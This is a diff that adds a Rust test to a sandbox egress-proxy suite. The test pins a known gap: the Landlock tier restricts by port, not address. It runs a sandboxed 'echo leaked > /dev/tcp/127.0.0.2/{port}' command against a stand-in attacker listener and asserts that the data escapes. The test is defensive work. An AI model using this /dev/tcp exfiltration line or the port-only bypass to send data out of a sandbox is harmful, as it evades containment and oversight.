@@ -365,6 +365,40 @@ async fn curl_in_tier1_reaches_the_proxy_and_no_other_port() {
     assert_eq!(h.upstream.seen.authorizations.lock().unwrap().len(), 1);
 }
 
+/// Pins a limit of tier 1 (README "Egress proxy", Limits): Landlock's network rule matches the
+/// port, not the address, so a listener of anyone's on another address at the proxy's port is
+/// reachable from tool code, around the policy. Tier 2 is the closed network.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn tier1_reaches_any_address_at_the_proxys_port() {
+    use std::io::Read as _;
+    let Some(h) = Harness::new(Tier::Landlock).await else {
+        return;
+    };
+    let port = h.proxy.addr().port();
+    // Another loopback address, the proxy's port: what an attacker's server would look like.
+    let Ok(outside) = std::net::TcpListener::bind(("127.0.0.2", port)) else {
+        eprintln!("skipping: 127.0.0.2:{port} cannot be bound here");
+        return;
+    };
+    let received = std::thread::spawn(move || {
+        let (mut s, _) = outside.accept().unwrap();
+        let mut got = String::new();
+        s.read_to_string(&mut got).unwrap();
+        got
+    });
+    let session = h.proxy.open_session("sesn_tier1_port");
+    let work = h.workspace("port1");
+    let (code, out) = h
+        .sandboxed(
+            &work,
+            &session.env,
+            &format!("echo leaked > /dev/tcp/127.0.0.2/{port}"),
+        )
+        .await;
+    assert_eq!(code, 0, "{out}");
+    assert_eq!(received.join().unwrap(), "leaked\n");
+}
+
 fn walk(dir: &Path) -> Vec<PathBuf> {
     let mut out = Vec::new();
     let mut stack = vec![dir.to_path_buf()];
